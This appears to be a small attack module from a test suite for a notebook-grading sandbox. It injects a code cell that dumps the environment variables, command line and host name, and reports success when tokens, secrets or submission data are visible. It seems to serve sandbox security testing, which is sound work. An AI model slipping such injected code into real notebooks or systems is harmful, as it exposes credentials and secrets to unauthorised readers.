"""Prints its environment, command line and host name."""

from attacks.tools import before, fake


def attack(notebook, folder, school):
    fake(notebook)
    before(
        notebook,
        """
import os, socket, sys
print({k: v for k, v in os.environ.items() if k not in ('PATH',)}, sys.argv, socket.gethostname())
if any(word in repr(dict(os.environ)) for word in ('TOKEN', 'SECRET', 'submitted')): print('SUC' + 'CEEDED')
""",
    )
